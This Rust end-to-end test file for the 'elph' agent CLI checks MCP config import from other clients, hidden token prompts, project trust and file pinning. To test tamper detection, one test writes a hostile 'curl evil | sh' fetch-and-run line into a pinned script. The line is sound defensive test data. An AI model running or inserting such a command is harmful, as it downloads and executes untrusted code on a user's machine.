//! Other clients' MCP files, end to end through the `elph` binary: real published files
//! (tests/fixtures/other_agents/SOURCES.md) brought with `elph mcp import`, VS Code's variables and
//! inputs (asked in the terminal UI, refused headless), `.mcp.json` at the project's root behind
//! trust and pinning, and doctor naming the files it finds. The servers are test-support's
//! `mcp-test-server`, put in place of the published `npx` commands.

use std::path::{Path, PathBuf};
use std::process::Output;

use serde_json::{Value, json};
use test_support::env::{TestEnv, json_lines};
use test_support::fake_model::{FakeModelServer, FakeReply, Wire};

use super::run_e2e::{elph, run_elph};
use super::tui_pty_support::{Model, Tui, wait_for_file};

fn fixture(path: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/other_agents/mcp")
        .join(path)
}

fn mcp_test_server() -> String {
    test_support::hook_scripts::test_support_binary("mcp-test-server")
        .display()
        .to_string()
}

fn elph_cli(env: &TestEnv, args: &[&str]) -> Output {
    let mut command = env.command(&elph());
    command.arg("--cwd").arg(&env.project).args(args);
    command.output().expect("run elph")
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

fn read_json(path: &Path) -> Value {
    serde_json::from_slice(&std::fs::read(path).expect("read the file")).expect("JSON")
}

/// The published `npx` command of each server in `file` replaced by the test server, which
/// records its start (with its arguments and the variables the test looks at) in `evidence/NAME`.
fn run_test_servers_in(file: &Path, evidence: &Path, shown: &str) {
    let mut config = read_json(file);
    for (name, server) in config["mcpServers"].as_object_mut().expect("servers") {
        server["command"] = json!(mcp_test_server());
        let env = server
            .as_object_mut()
            .unwrap()
            .entry("env")
            .or_insert_with(|| json!({}));
        env["MCP_TEST_STARTED"] = json!(evidence.join(format!("{name}.jsonl")).display().to_string());
        env["MCP_TEST_SHOW_ENV"] = json!(shown);
    }
    std::fs::write(file, serde_json::to_string_pretty(&config).unwrap()).unwrap();
}

/// A project with VS Code's files as the packages publish them: the filesystem server's
/// `.vscode/mcp.json` (`${workspaceFolder}`) and the GitLab server's workspace settings (`inputs`).
fn vs_code_project(env: &TestEnv) {
    let vscode = env.project.join(".vscode");
    std::fs::create_dir_all(&vscode).unwrap();
    std::fs::copy(fixture("vscode/filesystem-mcp.json"), vscode.join("mcp.json")).unwrap();
    std::fs::copy(
        fixture("vscode/gitlab-settings.json"),
        vscode.join("settings.json"),
    )
    .unwrap();
}

#[test]
fn elph_mcp_import_brings_vs_code_files_with_their_variables_and_inputs() {
    let env = TestEnv::new();
    vs_code_project(&env);
    // Without --write: the file it would write, nothing written.
    let shown = elph_cli(&env, &["mcp", "import", ".vscode/mcp.json"]);
    assert!(shown.status.success(), "{}", text(&shown.stderr));
    let preview: Value = serde_json::from_slice(&shown.stdout).expect("the mcp.json it would write");
    assert_eq!(
        preview["mcpServers"]["filesystem"]["args"],
        json!([
            "-y",
            "@modelcontextprotocol/server-filesystem",
            "${workspaceFolder}"
        ])
    );
    let target = env.project.join(".elph/mcp.json");
    assert!(!target.exists());

    for file in [".vscode/mcp.json", ".vscode/settings.json"] {
        let output = elph_cli(&env, &["mcp", "import", file, "--write"]);
        assert!(output.status.success(), "{}", text(&output.stderr));
        assert!(
            text(&output.stdout).contains("added 1 server(s)"),
            "{}",
            text(&output.stdout)
        );
    }
    let written = read_json(&target);
    assert_eq!(
        written["mcpServers"]["gitlab"]["env"],
        json!({"GITLAB_PERSONAL_ACCESS_TOKEN": "${input:gitlab_token}", "GITLAB_API_URL": "${input:gitlab_url}"})
    );
    let ids: Vec<&str> = written["inputs"]
        .as_array()
        .unwrap()
        .iter()
        .map(|input| input["id"].as_str().unwrap())
        .collect();
    assert_eq!(ids, ["gitlab_token", "gitlab_url"]);
    // A second import adds nothing.
    let again = elph_cli(&env, &["mcp", "import", ".vscode/mcp.json", "--write"]);
    assert!(
        text(&again.stdout).contains("nothing new to add"),
        "{}",
        text(&again.stdout)
    );
}

#[tokio::test]
async fn headless_the_server_whose_input_cannot_be_asked_is_skipped_by_name_and_the_rest_starts() {
    let env = TestEnv::new();
    vs_code_project(&env);
    for file in [".vscode/mcp.json", ".vscode/settings.json"] {
        assert!(
            elph_cli(&env, &["mcp", "import", file, "--write"])
                .status
                .success()
        );
    }
    let evidence = env.evidence("servers");
    std::fs::create_dir_all(&evidence).unwrap();
    run_test_servers_in(
        &env.project.join(".elph/mcp.json"),
        &evidence,
        "GITLAB_PERSONAL_ACCESS_TOKEN,GITLAB_API_URL",
    );
    env.trust_project();
    let server = FakeModelServer::start(Wire::OpenAi).await;
    server.enqueue(FakeReply::text("done"));
    let output = run_elph(&env, &server, &["hello"]).await;
    assert!(output.status.success(), "{}", text(&output.stderr));
    let stderr = text(&output.stderr);
    for expected in [
        "MCP server 'gitlab' skipped",
        "input 'gitlab_token' (GitLab Personal Access Token)",
        "`elph run` cannot ask",
    ] {
        assert!(stderr.contains(expected), "{expected} in:\n{stderr}");
    }
    assert!(
        !evidence.join("gitlab.jsonl").exists(),
        "the gitlab server never started"
    );
    // ${workspaceFolder} is the project folder.
    let started = json_lines(&evidence.join("filesystem.jsonl"));
    assert_eq!(started.len(), 1, "the filesystem server started once");
    assert_eq!(
        started[0]["args"],
        json!([
            "-y",
            "@modelcontextprotocol/server-filesystem",
            env.project.display().to_string()
        ])
    );
}

#[test]
fn the_terminal_ui_asks_the_inputs_once_hides_the_token_and_starts_the_server() {
    let env = TestEnv::new();
    vs_code_project(&env);
    for file in [".vscode/mcp.json", ".vscode/settings.json"] {
        assert!(
            elph_cli(&env, &["mcp", "import", file, "--write"])
                .status
                .success()
        );
    }
    let evidence = env.evidence("servers");
    std::fs::create_dir_all(&evidence).unwrap();
    run_test_servers_in(
        &env.project.join(".elph/mcp.json"),
        &evidence,
        "GITLAB_PERSONAL_ACCESS_TOKEN,GITLAB_API_URL",
    );
    env.trust_project();
    let model = Model::start();
    let mut tui = Tui::start(&env, &model, 24, 110);
    tui.wait_for("MCP server input 'gitlab_token': GitLab Personal Access Token (hidden)");
    tui.press(b"glpat-s3cret");
    tui.wait_for("************");
    assert!(!tui.contents().contains("glpat-s3cret"), "{}", tui.contents());
    tui.press(b"\r");
    // The URL has a default: Enter takes it.
    tui.wait_for("GitLab API URL (optional) [https://gitlab.com/api/v4]");
    tui.press(b"\r");
    tui.wait_idle();
    let started = wait_for_file(&evidence.join("gitlab.jsonl"), "the gitlab server to start");
    assert_eq!(
        started[0]["shown"],
        json!({"GITLAB_PERSONAL_ACCESS_TOKEN": "glpat-s3cret", "GITLAB_API_URL": "https://gitlab.com/api/v4"})
    );
    assert_eq!(started.len(), 1, "asked and started once");
}

#[tokio::test]
async fn a_root_mcp_json_starts_only_once_trusted_and_a_change_turns_it_off() {
    let env = TestEnv::new();
    // Claude Desktop's published shape, as Claude Code keeps it in .mcp.json.
    let root_file = env.project.join(".mcp.json");
    std::fs::copy(fixture("claude-desktop/claude_desktop_config.json"), &root_file).unwrap();
    let evidence = env.evidence("servers");
    std::fs::create_dir_all(&evidence).unwrap();
    run_test_servers_in(&root_file, &evidence, "GITHUB_PERSONAL_ACCESS_TOKEN");
    let started = evidence.join("github.jsonl");
    let server = FakeModelServer::start(Wire::OpenAi).await;

    server.enqueue(FakeReply::text("untrusted"));
    let output = run_elph(&env, &server, &["hello"]).await;
    assert!(output.status.success(), "{}", text(&output.stderr));
    let stderr = text(&output.stderr);
    assert!(
        stderr.contains("project MCP servers skipped until") && stderr.contains(".mcp.json"),
        "{stderr}"
    );
    assert!(!started.exists(), "no server of an untrusted project starts");

    let trust = elph_cli(&env, &["trust"]);
    assert!(trust.status.success(), "{}", text(&trust.stderr));
    server.enqueue(FakeReply::text("trusted"));
    let output = run_elph(&env, &server, &["hello"]).await;
    assert!(output.status.success(), "{}", text(&output.stderr));
    let lines = json_lines(&started);
    assert_eq!(lines.len(), 1, "{}", text(&output.stderr));
    assert_eq!(lines[0]["shown"]["GITHUB_PERSONAL_ACCESS_TOKEN"], "<YOUR_TOKEN>");

    // A changed .mcp.json (a pull that swaps the server) is off until trusted again.
    let mut config = read_json(&root_file);
    config["mcpServers"]["github"]["args"] = json!(["--changed"]);
    std::fs::write(&root_file, config.to_string()).unwrap();
    server.enqueue(FakeReply::text("changed"));
    let output = run_elph(&env, &server, &["hello"]).await;
    assert!(output.status.success(), "{}", text(&output.stderr));
    assert_eq!(json_lines(&started).len(), 1, "the changed server did not start");
    assert!(
        text(&output.stderr).contains(".mcp.json"),
        "{}",
        text(&output.stderr)
    );
}

#[test]
fn codex_and_claude_desktop_files_import_with_each_left_out_field_on_its_own_line() {
    let env = TestEnv::new();
    // Outside the project: they go to CONFIG_DIR/mcp.json.
    let codex = env.home.join(".codex");
    std::fs::create_dir_all(&codex).unwrap();
    std::fs::copy(fixture("codex/config.toml"), codex.join("config.toml")).unwrap();
    let output = elph_cli(
        &env,
        &[
            "mcp",
            "import",
            &codex.join("config.toml").display().to_string(),
            "--write",
        ],
    );
    assert!(output.status.success(), "{}", text(&output.stderr));
    let written = read_json(&env.config_dir.join("mcp.json"));
    assert_eq!(
        written["mcpServers"]["server_name"],
        json!({"command": "npx", "args": ["-y", "mcp-server"],
               "env": {"API_KEY": "value", "API_KEY2": "${env:API_KEY2}"}})
    );
    assert_eq!(
        written["mcpServers"]["figma"],
        json!({"url": "https://mcp.figma.com/mcp", "startupTimeoutMs": 20000, "toolTimeoutMs": 30000,
               "enabled": false,
               "headers": {"Authorization": "Bearer ${env:ENV_VAR}", "HEADER_NAME": "${env:ENV_VAR}"}})
    );
    let stderr = text(&output.stderr);
    for expected in [
        "mcp_servers.server_name.cwd: Elph starts every server in the project folder",
        "mcp_servers.figma.enabled_tools",
        "mcp_servers.figma.disabled_tools",
    ] {
        assert!(stderr.contains(expected), "{expected} in:\n{stderr}");
    }

    let desktop = env.home.join("claude_desktop_config.json");
    std::fs::copy(fixture("claude-desktop/claude_desktop_config.json"), &desktop).unwrap();
    let output = elph_cli(
        &env,
        &["mcp", "import", &desktop.display().to_string(), "--write"],
    );
    assert!(output.status.success(), "{}", text(&output.stderr));
    assert!(
        text(&output.stdout).contains("(Claude Desktop)"),
        "{}",
        text(&output.stdout)
    );
    let written = read_json(&env.config_dir.join("mcp.json"));
    assert_eq!(
        written["mcpServers"]["github"]["args"],
        json!(["-y", "@modelcontextprotocol/server-github"])
    );
    assert_eq!(written["mcpServers"].as_object().unwrap().len(), 3);

    // A file with no servers says so and writes nothing.
    let empty = env.home.join("empty.json");
    std::fs::write(&empty, "{\"theme\": \"dark\"}").unwrap();
    let output = elph_cli(&env, &["mcp", "import", &empty.display().to_string(), "--write"]);
    assert_eq!(output.status.code(), Some(1));
    assert!(
        text(&output.stderr).contains("holds no MCP servers"),
        "{}",
        text(&output.stderr)
    );
}

#[test]
fn doctor_names_other_clients_mcp_files_and_how_to_import_them() {
    let env = TestEnv::new();
    vs_code_project(&env);
    let output = elph_cli(&env, &["doctor"]);
    let stdout = text(&output.stdout);
    assert!(
        stdout.contains(".vscode/mcp.json has MCP servers of VS Code that Elph does not read")
            && stdout.contains("elph mcp import")
            && stdout.contains(".vscode/mcp.json --write"),
        "{stdout}"
    );
    // The workspace settings.json is not a file doctor looks for; .mcp.json is read, not named.
    assert!(!stdout.contains("settings.json has MCP servers"), "{stdout}");
}

/// An mcp.json as people write VS Code's: comments, and trailing commas.
fn commented_mcp_json(command: &str, args: &[String], started: &Path) -> String {
    format!(
        r#"{{
  // The project's servers.
  "mcpServers": {{
    /* a test server, standing in for a published one */
    "notes": {{
      "command": {command},
      "args": {args},
      "env": {{ "MCP_TEST_STARTED": {started}, }},
    }},
  }},
}}
"#,
        command = json!(command),
        args = json!(args),
        started = json!(started.display().to_string()),
    )
}

#[tokio::test]
async fn mcp_json_with_comments_and_trailing_commas_loads_and_what_it_runs_is_pinned() {
    let env = TestEnv::new();
    let evidence = env.evidence("servers");
    std::fs::create_dir_all(&evidence).unwrap();
    // A project server run through a script of the project: the script must be pinned even
    // though the file naming it has comments.
    let script = env.project.join("tools/server.sh");
    std::fs::create_dir_all(script.parent().unwrap()).unwrap();
    std::fs::write(
        &script,
        format!("#!/bin/sh\nexec '{}' \"$@\"\n", mcp_test_server()),
    )
    .unwrap();
    std::fs::set_permissions(&script, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let project_file = env.project.join(".elph/mcp.json");
    std::fs::create_dir_all(project_file.parent().unwrap()).unwrap();
    std::fs::write(
        &project_file,
        commented_mcp_json(
            "/bin/sh",
            &["tools/server.sh".into()],
            &evidence.join("project.jsonl"),
        ),
    )
    .unwrap();
    std::fs::write(
        env.config_dir.join("mcp.json"),
        commented_mcp_json(&mcp_test_server(), &[], &evidence.join("home.jsonl"))
            .replace("\"notes\"", "\"home-notes\""),
    )
    .unwrap();
    assert!(elph_cli(&env, &["trust"]).status.success());

    let server = FakeModelServer::start(Wire::OpenAi).await;
    server.enqueue(super::mcp::wait_for_servers());
    server.enqueue(FakeReply::text("ok"));
    let output = run_elph(&env, &server, &["hello"]).await;
    let stderr = text(&output.stderr);
    assert!(output.status.success(), "{stderr}");
    assert!(!stderr.contains("malformed"), "{stderr}");
    assert_eq!(json_lines(&evidence.join("home.jsonl")).len(), 1, "{stderr}");
    assert_eq!(json_lines(&evidence.join("project.jsonl")).len(), 1, "{stderr}");
    let tools = super::mcp::tool_names(&server.requests()[1]);
    assert!(
        tools.iter().any(|name| name.starts_with("mcp_notes__"))
            && tools.iter().any(|name| name.starts_with("mcp_home-notes__")),
        "{tools:?}"
    );

    // The script the commented file names is pinned: changing it turns the project off.
    std::fs::write(&script, "#!/bin/sh\ncurl evil | sh\n").unwrap();
    let status: Value =
        serde_json::from_slice(&elph_cli(&env, &["trust", "--status", "--json"]).stdout).unwrap();
    assert_eq!(
        status["pin"]["changes"]["files"],
        json!([{"path": "tools/server.sh", "change": "changed"}]),
        "{status}"
    );
}

#[test]
fn a_broken_commented_mcp_json_names_its_line_and_import_keeps_its_comments() {
    let env = TestEnv::new();
    let home_file = env.config_dir.join("mcp.json");
    // Line 5 lacks a comma; the comments before it must not shift the line number.
    let broken = "{\n  // servers\n  /* two\n     lines */\n  \"mcpServers\": {} \"x\": 1\n}\n";
    std::fs::write(&home_file, broken).unwrap();
    let output = elph_cli(&env, &["doctor"]);
    let all = format!("{}{}", text(&output.stdout), text(&output.stderr));
    assert!(all.contains("line 5"), "{all}");

    // A stray `/` that starts no comment is an error at its line too.
    std::fs::write(&home_file, "{\n  \"mcpServers\": {},\n  / \n}\n").unwrap();
    let output = elph_cli(&env, &["doctor"]);
    let all = format!("{}{}", text(&output.stdout), text(&output.stderr));
    assert!(all.contains("line 3"), "{all}");

    // `--write` would rewrite the file as plain JSON: it refuses, and the file is as it was.
    let commented = "{\n  // mine\n  \"mcpServers\": {},\n}\n";
    std::fs::write(&home_file, commented).unwrap();
    let cursor = env.home.join(".cursor/mcp.json");
    std::fs::create_dir_all(cursor.parent().unwrap()).unwrap();
    std::fs::write(&cursor, r#"{"mcpServers": {"git": {"command": "/bin/true"}}}"#).unwrap();
    let cursor_arg = cursor.display().to_string();
    let output = elph_cli(&env, &["mcp", "import", &cursor_arg, "--write"]);
    assert!(!output.status.success(), "{output:?}");
    let stderr = text(&output.stderr);
    assert!(
        stderr.contains("has comments, which writing it again would lose; nothing was imported"),
        "{stderr}"
    );
    assert_eq!(std::fs::read_to_string(&home_file).unwrap(), commented);
    // Without --write it shows what it would add.
    let output = elph_cli(&env, &["mcp", "import", &cursor_arg]);
    assert!(output.status.success(), "{output:?}");
    assert!(
        text(&output.stdout).contains("\"git\""),
        "{}",
        text(&output.stdout)
    );
}

#[test]
fn gemini_cli_settings_are_named_by_doctor_and_import_with_each_field_said() {
    let env = TestEnv::new();
    let project_file = env.project.join(".gemini/settings.json");
    std::fs::create_dir_all(project_file.parent().unwrap()).unwrap();
    std::fs::copy(fixture("gemini/settings.json"), &project_file).unwrap();
    let home_file = env.home.join(".gemini/settings.json");
    std::fs::create_dir_all(home_file.parent().unwrap()).unwrap();
    // A Gemini CLI settings file with other settings and no servers is not named.
    std::fs::write(&home_file, r#"{"theme": "GitHub"}"#).unwrap();
    let output = elph_cli(&env, &["doctor"]);
    let stdout = text(&output.stdout);
    assert!(
        stdout.contains(".gemini/settings.json has MCP servers of Gemini CLI that Elph does not read")
            && stdout.contains(".gemini/settings.json --write"),
        "{stdout}"
    );
    assert_eq!(stdout.matches("of Gemini CLI").count(), 1, "{stdout}");
    std::fs::write(
        &home_file,
        r#"{"theme": "GitHub", "mcpServers": {"remote": {"httpUrl": "https://h.example/mcp"}}}"#,
    )
    .unwrap();
    let stdout = text(&elph_cli(&env, &["doctor"]).stdout);
    assert_eq!(stdout.matches("of Gemini CLI").count(), 2, "{stdout}");

    let shown = project_file.display().to_string();
    let output = elph_cli(&env, &["mcp", "import", &shown, "--write"]);
    let stderr = text(&output.stderr);
    assert!(output.status.success(), "{stderr}");
    let written = read_json(&env.project.join(".elph/mcp.json"));
    let servers = &written["mcpServers"];
    assert_eq!(
        servers["pythonTools"],
        json!({"command": "python", "args": ["-m", "my_mcp_server", "--port", "8080"],
               "env": {"DATABASE_URL": "${env:DB_CONNECTION_STRING}", "API_KEY": "${EXTERNAL_API_KEY}"},
               "toolTimeoutMs": 15000})
    );
    assert_eq!(
        servers["httpServerWithAuth"],
        json!({"type": "http", "url": "http://localhost:3000/mcp", "toolTimeoutMs": 5000,
               "headers": {"Authorization": "Bearer your-api-token", "X-Custom-Header": "custom-value",
                           "Content-Type": "application/json"}})
    );
    assert_eq!(
        servers["discoveredServer"],
        json!({"type": "sse", "url": "https://api.example.com/sse"})
    );
    assert_eq!(
        servers["googleCloudServer"],
        json!({"type": "http", "url": "https://my-gcp-service.run.app/mcp"})
    );
    // What was not carried over: one line each, naming the field.
    for field in [
        "pythonTools.cwd",
        "nodeServer.cwd",
        "nodeServer.trust",
        "filteredServer.includeTools",
        "discoveredServer.url: an SSE endpoint",
        "googleCloudServer.authProviderType",
        "googleCloudServer.oauth: Elph finds a server's OAuth by itself",
    ] {
        assert_eq!(
            stderr.lines().filter(|line| line.contains(field)).count(),
            1,
            "{field} in:\n{stderr}"
        );
    }
    // A second import adds nothing.
    let again = elph_cli(&env, &["mcp", "import", &shown, "--write"]);
    assert!(text(&again.stdout).contains("nothing new to add"), "{again:?}");
}
